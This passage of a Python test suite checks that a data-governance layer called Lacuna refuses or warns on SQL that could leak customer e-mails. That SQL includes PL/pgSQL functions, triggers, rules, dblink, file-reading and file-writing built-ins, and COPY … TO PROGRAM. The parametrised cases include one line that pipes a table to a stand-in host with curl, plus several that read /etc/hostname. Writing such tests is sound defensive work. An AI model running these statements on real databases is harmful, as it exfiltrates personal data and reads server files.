    ("CREATE FUNCTION f() RETURNS int AS $$ return 1 $$ LANGUAGE plpython3u", "unknown"),
    ("CREATE FUNCTION f() RETURNS text LANGUAGE sql STABLE AS "
     "$$ SELECT max(email) FROM customers $$", "pass"),
    ("CREATE FUNCTION f(a int) RETURNS int AS 'SELECT a + 1' LANGUAGE sql", "pass"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1", "pass"),
])
def test_postgresql_procedural_code_is_read_before_it_is_created(sql, kind):
    stmt = analyse(sql, "postgres")
    assert stmt.kind == kind, stmt.problem
    if kind == "unknown":
        assert "through the governed connection one by one" in (stmt.problem or "")


def test_postgresql_procedural_code_cannot_run_what_lacuna_does_not_govern(
        sandbox, make_db, governed_engine, refused):
    """A DO block, a PL/pgSQL function (or one whose SQL body writes) and CALL run statements
    Lacuna never sees (here ``INSERT … SELECT email`` and ``COPY … TO`` a file): in enforce mode
    they are denied, with what to do, even into a database that keeps classifications, and so
    is a statement that calls such a function made outside Lacuna. A LANGUAGE sql function
    that only queries, an extension's functions and ordinary statements run as before."""
    url = make_db("postgresql", tables=("customers",))
    out = Path(f"/tmp/lacuna-{Path(url).name}.csv")  # written by the server, if ever
    plain = sa.create_engine(url)
    with plain.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE contacts (c TEXT)")
        conn.exec_driver_sql("CREATE EXTENSION pgcrypto")
        conn.exec_driver_sql(  # made outside Lacuna: calling them is governed
            "CREATE FUNCTION leak() RETURNS void LANGUAGE plpgsql AS "
            "$$ BEGIN INSERT INTO contacts SELECT email FROM customers; END $$")
        conn.exec_driver_sql("CREATE FUNCTION wrapped() RETURNS void LANGUAGE sql AS "
                             "$$ SELECT leak() $$")
        conn.exec_driver_sql("CREATE PROCEDURE p() LANGUAGE sql AS "
                             "$$ INSERT INTO contacts SELECT email FROM customers $$")
    plain.dispose()
    engine = governed_engine(url, aware=True)
    denied = {
        f"DO $$ BEGIN COPY customers TO '{out}'; END $$": "a DO block",
        "DO $$ BEGIN INSERT INTO contacts SELECT email FROM customers; END $$": "a DO block",
        "CREATE FUNCTION leak2() RETURNS void LANGUAGE plpgsql AS "
        "$$ BEGIN INSERT INTO contacts SELECT email FROM customers; END $$": "LANGUAGE plpgsql",
        "CREATE FUNCTION leak3() RETURNS void LANGUAGE sql AS "
        "$$ INSERT INTO contacts SELECT email FROM customers $$": "only queries",
        "CALL p()": "CALL runs a procedure",
        "SELECT leak()": "it calls leak (function, LANGUAGE plpgsql)",
        "SELECT wrapped()": "it calls leak (function, LANGUAGE plpgsql)",
        "INSERT INTO contacts SELECT leak()::text": "it calls leak",
        "CREATE TRIGGER t AFTER INSERT ON contacts FOR EACH STATEMENT EXECUTE FUNCTION leak()":
            "it calls leak",
    }
    for sql, message in refused(engine, denied).items():
        assert "through the governed connection one by one" in message, sql
    assert not out.exists()
    with engine.begin() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM contacts").scalar() == 0
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM pg_proc WHERE proname LIKE 'leak_'"
                                    ).scalar() == 0
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM pg_trigger WHERE tgname = 't'"
                                    ).scalar() == 0
        conn.exec_driver_sql("CREATE FUNCTION mails() RETURNS text LANGUAGE sql STABLE AS "
                             "$$ SELECT string_agg(email, ',') FROM customers $$")
        result = conn.exec_driver_sql("SELECT mails() AS m")
        assert "@" in result.scalar()
        c = lacuna.sql.classification(result)
        assert c is not None
        assert c.tier is Tier.PROPRIETARY  # as for any function the users defined
        digest = conn.exec_driver_sql("SELECT encode(digest('x', 'sha256'), 'hex')").scalar()
        assert len(digest) == 64  # pgcrypto's: an extension's function runs
        conn.exec_driver_sql("INSERT INTO contacts SELECT region FROM customers")
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM contacts").scalar() == 60


def test_procedural_code_runs_with_a_warning_in_warn_mode(make_db, governed_engine):
    engine = governed_engine(make_db("postgresql", tables=("customers",)), mode="warn")
    with pytest.warns(lacuna.GovernanceWarning, match="a DO block"), engine.begin() as conn:
        conn.exec_driver_sql("DO $$ BEGIN CREATE TABLE t AS SELECT 1 AS n; END $$")
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT n FROM t").scalar() == 1


def _audited(gov) -> list[tuple[str, bool, str | None]]:
    """Every audit record so far, oldest first: (action, allowed, method)."""
    return [(r.action, r.allowed, r.data.get("how", {}).get("method") or r.data.get(
        "what", {}).get("method")) for r in reversed(gov.audit.list(limit=None))]


@pytest.mark.parametrize("how", ["sqlite3", "connection", "engine"])
def test_pd_read_sql_decides_a_writing_statement_as_the_sql_hook_does(
        how, sandbox, sqlite_url, sandbox_config):
    """``pd.read_sql`` ran its statement as pandas gave it (under Lacuna's bypass), so
    ``INSERT INTO t SELECT email … RETURNING c`` copied 60 e-mails that the same statement sent
    through a governed engine is denied. It is now decided as SQL before it runs, once (no
    second record for the frame it hands back); a plain SELECT is the read it was."""
    path = sandbox / "warehouse.db"
    with sqlite3.connect(path) as raw:
        raw.execute("CREATE TABLE t (c TEXT)")
        regions = sorted(r[0] for r in raw.execute(
            "SELECT region FROM customers WHERE customer_id <= 'C0003'"))
    engine = sa.create_engine(sqlite_url)
    with contextlib.ExitStack() as stack:
        if how == "sqlite3":
            con: object = stack.enter_context(contextlib.closing(sqlite3.connect(path)))
        elif how == "connection":
            con = stack.enter_context(engine.connect())
        else:
            con = engine
        with lacuna.governed(sandbox_config()):
            gov = lacuna.governor.current()
            with pytest.raises(GovernanceViolation, match="Export to sqlite"):
                pd.read_sql("INSERT INTO t SELECT email FROM customers RETURNING c", con)
            if how != "engine":
                con.commit()  # type: ignore[attr-defined]
            assert _audited(gov)[-1][:2] == ("export", False)
            with pytest.raises(GovernanceViolation):
                pd.read_sql_query("INSERT INTO t SELECT email FROM customers", con)
            frame = pd.read_sql("SELECT customer_id, email AS region FROM customers", con)
            assert len(frame) == 60
            assert frame.lacuna_classification.columns["region"].classification \
                is ColumnKind.PII  # as before: the query's lineage
            assert _audited(gov)[-1][:2] == ("read", True)
            before = len(_audited(gov))
            back = pd.read_sql("INSERT INTO t SELECT region FROM customers "
                               "WHERE customer_id <= 'C0003' RETURNING c", con)
            if how != "engine":
                con.commit()  # type: ignore[attr-defined]
            assert sorted(back["c"]) == regions
            assert back.lacuna_classification.tier is Tier.PUBLIC
            # the hook's records only: the read of what comes back, the write and its outcome
            assert [a[:2] for a in _audited(gov)[before:]] == [
                ("read", True), ("export", True), ("export", True)]
    with sqlite3.connect(path) as raw:  # the denied ones wrote nothing
        rows = raw.execute("SELECT c FROM t").fetchall()
    assert not any("@" in r[0] for r in rows)
    assert len(rows) == (0 if how == "engine" else 3)  # pandas rolls an Engine's back
    engine.dispose()


@pytest.mark.parametrize(("sql", "dialect", "why"), [
    ("SELECT lo_export(16400, '/tmp/c')", "postgres", "lo_export(), which writes"),
    ("SELECT lo_import('/etc/hostname')", "postgres", "lo_import()"),
    ("SELECT pg_file_write('/tmp/x', 'a', false)", "postgres", "adminpack"),
    ("SELECT pg_catalog.pg_read_file('/etc/hostname')", "postgres", "reads a file"),
    ("SELECT * FROM pg_ls_dir('.')", "postgres", "reads a file"),
    ("SELECT dblink_exec('dbname=x', 'INSERT INTO t SELECT 1')", "postgres", "another database"),
    ("SELECT * FROM dblink('dbname=x', 'SELECT email FROM customers') AS t(e text)", "postgres",
     "another database"),
    ("SELECT pg_terminate_backend(1)", "postgres", "other sessions"),
    ("SELECT set_config('search_path', 'other', false)", "postgres", "server setting"),
    ("SELECT query_to_xml('select email from customers', true, false, '')", "postgres",
     "as text"),
    ("INSERT INTO t SELECT table_to_xml('customers', true, false, '')::text", "postgres",
     "by name"),
    ("COPY customers TO PROGRAM 'curl -d @- https://x.example'", "postgres", "PROGRAM"),
    ("COPY t FROM PROGRAM 'cat /etc/hostname'", "postgres", "PROGRAM"),
    ("SELECT * FROM query('SELECT email FROM customers')", "duckdb", "as text"),
    ("SELECT * FROM query_table('customers')", "duckdb", "as text"),
    ("SELECT content FROM read_text('/etc/hostname')", "duckdb", "any file"),
    ("SELECT * FROM read_blob('/etc/hostname')", "duckdb", "any file"),
    ("SELECT load_extension('x')", "sqlite", "native code"),
    ("SELECT writefile('/tmp/x', email) FROM customers", "sqlite", "writes a file"),
])
def test_built_in_functions_with_side_effects_are_not_run_undecided(sql, dialect, why):
    stmt = analyse(sql, dialect)
    assert stmt.kind == "unknown"
    assert why in (stmt.problem or "")


@pytest.mark.parametrize(("sql", "dialect"), [
    ("SELECT set_config('app.user', 'alice', false)", "postgres"),  # a session variable
    ("SELECT lower(email), pg_backend_pid() FROM customers", "postgres"),
    ("SELECT * FROM read_csv('customers.csv')", "duckdb"),
    ("SELECT upper(email) FROM customers", "sqlite"),
])
def test_harmless_functions_are_read_as_before(sql, dialect):
    assert analyse(sql, dialect).kind in ("read", "pass")


def test_postgresql_side_effects_triggers_and_read_sql_fail_closed(
        sandbox, make_db, governed_engine, sandbox_config, refused):
    """On the suite's PostgreSQL: a statement calling a built-in function with side effects
    (adminpack's ``pg_file_write``, ``pg_read_file``, ``query_to_xml`` of a query given as
    text, dblink) is denied; a write to a table whose trigger (made outside Lacuna) runs
    PL/pgSQL is denied, and so is one with a rewrite rule; ``pd.read_sql`` of a ``SELECT`` that
    calls a function that writes is denied as through the engine. Harmless statements run."""
    url = make_db("postgresql", tables=("customers",))
    out = Path(f"/tmp/lacuna-{Path(url).name}.txt")  # written by the server, if ever
    plain = sa.create_engine(url)
    with plain.begin() as conn:
        conn.exec_driver_sql("CREATE EXTENSION adminpack")
        conn.exec_driver_sql("CREATE EXTENSION dblink")
        conn.exec_driver_sql("CREATE TABLE contacts (c TEXT)")
        conn.exec_driver_sql("CREATE TABLE members (id TEXT)")
        conn.exec_driver_sql("CREATE TABLE notes (n TEXT)")
        conn.exec_driver_sql("CREATE TABLE plain (n TEXT)")
        conn.exec_driver_sql(
            "CREATE FUNCTION copy_mails() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
            "INSERT INTO contacts SELECT email FROM customers; RETURN NEW; END $$")
        conn.exec_driver_sql("CREATE TRIGGER mails AFTER INSERT OR UPDATE OR DELETE ON members "
                             "FOR EACH ROW EXECUTE FUNCTION copy_mails()")
        conn.exec_driver_sql("CREATE RULE also_mails AS ON INSERT TO notes DO ALSO "
                             "INSERT INTO contacts SELECT email FROM customers")
        conn.exec_driver_sql(
            "CREATE FUNCTION leak() RETURNS int LANGUAGE plpgsql AS $$ BEGIN "
            "INSERT INTO contacts SELECT email FROM customers; RETURN 1; END $$")
    plain.dispose()
    engine = governed_engine(url, aware=True)
    denied = {
        f"SELECT pg_file_write('{out}', (SELECT string_agg(email, ',') FROM customers), false)":
            "pg_file_write(), which writes a file",
        "SELECT pg_read_file('/etc/hostname')": "pg_read_file(), which reads a file",
        "SELECT query_to_xml('select email from customers', true, false, '')":
            "query_to_xml(), which runs the SQL it is given as text",
        f"SELECT dblink_exec('{url.replace('+psycopg', '').replace('postgresql', 'postgres')}',"
        " 'INSERT INTO contacts SELECT email FROM customers')": "dblink_exec()",
        f"COPY customers TO PROGRAM 'cat > {out}'": "COPY … PROGRAM",
        "INSERT INTO members VALUES ('C0001')": "trigger mails (it runs copy_mails",
        "UPDATE members SET id = 'x'": "trigger mails",
        "DELETE FROM members": "trigger mails",
        "INSERT INTO notes SELECT region FROM customers": "rule also_mails",
    }
    refused(engine, denied)
    assert not out.exists()
    with lacuna.governed(lacuna.governor.current().config), engine.connect() as conn:
        with pytest.raises(GovernanceViolation, match="it calls leak"):
            pd.read_sql("SELECT leak() AS n", conn)
        conn.commit()
        frame = pd.read_sql("SELECT region, lower(email) AS e FROM customers", conn)
        assert frame.lacuna_classification.columns["e"].classification is ColumnKind.PII
    with engine.begin() as conn:  # nothing ran; harmless statements do
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM contacts").scalar() == 0
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM members").scalar() == 0
        conn.exec_driver_sql("INSERT INTO plain SELECT region FROM customers")
        conn.exec_driver_sql("DELETE FROM plain WHERE n IS NULL")
        assert conn.exec_driver_sql("SELECT set_config('app.user', 'alice', false)"
                                    ).scalar() == "alice"
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM plain").scalar() == 60


def test_a_rename_does_not_make_a_claim_lacunas_own(make_db, governed_engine):
    """A version of a table written by hand into the state database (or ingested) is a claim:
    renaming the table never records the claim under the new name as a signed, trusted
    version; a table whose stored class Lacuna computed keeps it trusted under the new name.
    (A claim saying less than Lacuna's own newest version is not the latest since lineage12:
    the rename then carries Lacuna's own version, never the claim's PUBLIC.)"""
    import json

    from lacuna.governor import current

    engine = governed_engine(make_db("sqlite"), aware=True)
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE contacts AS SELECT email, customer_id FROM customers")
    gov = current()
    store = gov.lineage_store
    url = engine.url.render_as_string(hide_password=False)
    own = store.latest(table_ref(url, "contacts"), trusted=True)
    assert own is not None  # Lacuna's own version of the table it wrote
    forged = {"tier": "PUBLIC", "columns": {"email": {"classification": "public"}}}
    with sqlite3.connect(str(store.file)) as db:
        db.execute("INSERT INTO lacuna_lineage_versions (dataset_id, run_id, tier, "
                   "classification, columns, created, produced, trusted, dismissed) SELECT "
                   "dataset_id, 'by-hand', 'PUBLIC', ?, '[\"email\"]', "
                   "'2030-01-01T00:00:00', 1, 0, 0 FROM lacuna_lineage_versions WHERE id = ("
                   "SELECT max(id) FROM lacuna_lineage_versions)", (json.dumps(forged),))
    store.generation += 1
    with engine.begin() as conn:
        conn.exec_driver_sql("ALTER TABLE contacts RENAME TO kept")
    kept = store.latest(table_ref(url, "kept"), trusted=True)
    if kept is not None:  # Lacuna's own class of the table, not the claim's PUBLIC
        assert kept.classification.tier is own.classification.tier
        assert {n: c.classification for n, c in kept.classification.columns.items()} == {
            n: c.classification for n, c in own.classification.columns.items()}
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE mine AS SELECT email, customer_id FROM customers")
        conn.exec_driver_sql("ALTER TABLE mine RENAME TO ours")
    assert store.latest(table_ref(url, "ours"), trusted=True) is not None
